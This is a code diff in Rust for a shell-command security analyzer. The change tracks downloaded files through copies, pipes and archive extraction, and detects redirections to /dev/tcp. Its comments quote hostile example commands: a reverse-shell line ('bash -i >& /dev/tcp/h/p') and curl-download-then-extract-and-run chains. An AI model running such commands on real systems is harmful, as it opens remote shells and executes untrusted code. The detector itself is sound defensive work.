@@ -282,6 +282,8 @@ pub struct Analysis {
     pub invocations: Vec<Invocation>,
     /// Files written by downloaders: (normalized path, invocation).
     pub downloads: Vec<(String, usize)>,
+    /// Folders a downloaded archive was extracted into: (normalized path, invocation).
+    pub download_dirs: Vec<(String, usize)>,
     /// Functions defined, by name.
     pub functions: Vec<String>,
     pub problems: Vec<Problem>,
@@ -296,6 +298,32 @@ impl Analysis {
     /// Whether `earlier` runs upstream of `later` in a pipeline they share.
     pub fn upstream(&self, earlier: &Invocation, later: &Invocation) -> bool {
         earlier.pipes.iter().any(|(p, s)| later.pipes.iter().any(|(q, t)| p == q && s < t))
+    }
+
+    /// Whether the normalized `path` holds downloaded content before
+    /// invocation `before` runs: a file a downloader wrote, one copied or
+    /// decompressed from it, or a file in a folder a downloaded archive was
+    /// extracted into.
+    pub fn downloaded(&self, path: &str, before: usize) -> bool {
+        self.downloads.iter().any(|(d, at)| *at < before && d == path)
+            || self.download_dirs.iter().any(|(d, at)| {
+                *at < before
+                    && path.strip_prefix(d.as_str()).is_some_and(|rest| rest.starts_with('/') || d.ends_with('/'))
+            })
+    }
+
+    /// Whether the invocation at `index` puts out downloaded content: a
+    /// downloader, or a program reading a downloaded file (`cat x.sh`).
+    pub fn yields_download(&self, index: usize) -> bool {
+        self.invocations
+            .get(index)
+            .is_some_and(|inv| inv.class.is(Table::Downloader) || inv.reads.iter().any(|p| self.downloaded(p, index)))
+    }
+
+    /// Whether `inv` reads downloaded content from a stage upstream of it in a pipeline.
+    pub fn fed_download(&self, inv: &Invocation) -> bool {
+        !inv.pipes.is_empty()
+            && self.invocations.iter().enumerate().any(|(i, e)| self.upstream(e, inv) && self.yields_download(i))
     }
 }
 
@@ -936,7 +964,16 @@ impl<'c, 'a> Walker<'c, 'a> {
             match &r.target {
                 RedirectTarget::Word(w) => {
                     let target = self.word(w, state, frame);
-                    let file = !matches!(r.op, RedirectOp::DupIn | RedirectOp::DupOut | RedirectOp::HereString);
+                    // `>& word` whose word is no descriptor (digits, `-`, or digits and `-`) sends both
+                    // output and errors to that file, as `&> word` does: `bash -i >& /dev/tcp/h/p`.
+                    let to_file = r.op == RedirectOp::DupOut
+                        && r.fd.is_none_or(|fd| fd == 1)
+                        && target.known().is_some_and(|t| {
+                            let digits = t.strip_suffix('-').unwrap_or(t);
+                            !digits.is_empty() && !digits.bytes().all(|b| b.is_ascii_digit())
+                        });
+                    let op = if to_file { RedirectOp::OutErr } else { r.op };
+                    let file = !matches!(op, RedirectOp::DupIn | RedirectOp::DupOut | RedirectOp::HereString);
                     let path = file.then(|| target.path()).flatten().map(|t| self.normalize(&t, state));
                     let feeds_stdin = matches!(r.op, RedirectOp::In | RedirectOp::HereString | RedirectOp::ReadWrite)
                         && r.fd.is_none_or(|fd| fd == 0);
@@ -944,7 +981,7 @@ impl<'c, 'a> Walker<'c, 'a> {
                         stdin_from.extend(target.subs.iter().cloned());
                         stdin_from.extend(target.procs.iter().cloned());
                     }
-                    out.push(Redir { fd: r.fd, op: r.op, target, path });
+                    out.push(Redir { fd: r.fd, op, target, path });
                 }
                 RedirectTarget::HereDoc(doc) => {
                     let body = self.parts(&doc.body, state, frame);
@@ -1020,12 +1057,14 @@ impl<'c, 'a> Walker<'c, 'a> {
                 };
                 Rc::make_mut(&mut state.vars).insert(name, Var { value: text, secret: value.secret });
             }
+            // `$(< file)` prints the file's contents (bash), only known at run time.
+            let prints_file = redirs.iter().any(|r| r.op.reads() && r.fd.is_none_or(|fd| fd == 0));
             if !redirs.is_empty() {
                 let mut inv = self.invocation(Vec::new(), redirs, state, frame, &segment);
                 inv.stdin_from = stdin_from;
                 self.push(inv);
             }
-            return Some(String::new());
+            return if prints_file { None } else { Some(String::new()) };
         }
         let mut env = Env { secret: assigns.iter().any(|(_, _, v)| v.secret), loads: Vec::new() };
         for (name, _, value) in &assigns {
@@ -1089,15 +1128,18 @@ impl<'c, 'a> Walker<'c, 'a> {
         inv.secret_input |= inv.program.is_empty() && inv.reads.iter().any(|p| secret(p));
         // A file written from a download (`mv x y`, `cp`, `install`, `cat x > y`) holds downloaded
         // code too, and so does the same name in a folder written (`cp x d/`, `mv -t d x`).
-        if !self.out.downloads.is_empty() && !inv.writes.is_empty() {
+        // What a stage writes from downloaded content piped into it (`curl … | tee x.sh`) is downloaded too.
+        let carries = !self.out.downloads.is_empty() || !self.out.download_dirs.is_empty();
+        if !inv.writes.is_empty() && (carries || !inv.pipes.is_empty()) {
             let index = self.out.invocations.len();
-            let downloaded = |p: &&String| self.out.downloads.iter().any(|(d, at)| d == *p && *at < index);
-            let names: Vec<String> = inv.reads.iter().filter(downloaded).map(|p| basename(p).to_string()).collect();
+            let names: Vec<String> =
+                inv.reads.iter().filter(|p| self.out.downloaded(p, index)).map(|p| basename(p).to_string()).collect();
+            let fed = self.out.fed_download(&inv);
             for w in &inv.writes {
                 for name in &names {
                     self.out.downloads.push((format!("{}/{name}", w.trim_end_matches('/')), index));
                 }
-                if !names.is_empty() {
+                if !names.is_empty() || fed {
                     self.out.downloads.push((w.clone(), index));
                 }
             }
@@ -1485,6 +1527,26 @@ impl<'c, 'a> Walker<'c, 'a> {
             for f in files {
                 let path = self.normalize(&f, &state_for);
                 self.out.downloads.push((path, index));
+            }
+        }
+        // An archive or compressed file holding downloaded content unpacks downloaded files:
+        // `curl -O …/a.tgz && tar xzf a.tgz && ./a/install.sh`, `curl … | tar xz -C d`.
+        let unpacked = super::downloads::unpacked(program, &argv);
+        if !unpacked.is_empty() {
+            let index = self.out.invocations.len();
+            if inv.reads.iter().any(|p| self.out.downloaded(p, index)) || self.out.fed_download(&inv) {
+                for u in unpacked {
+                    match u {
+                        super::downloads::Unpacked::Into(dir) => {
+                            let path = self.normalize(&dir, &state_for);
+                            self.out.download_dirs.push((path, index));
+                        }
+                        super::downloads::Unpacked::File(file) => {
+                            let path = self.normalize(&file, &state_for);
+                            self.out.downloads.push((path, index));
+                        }
+                    }
+                }
             }
         }
 
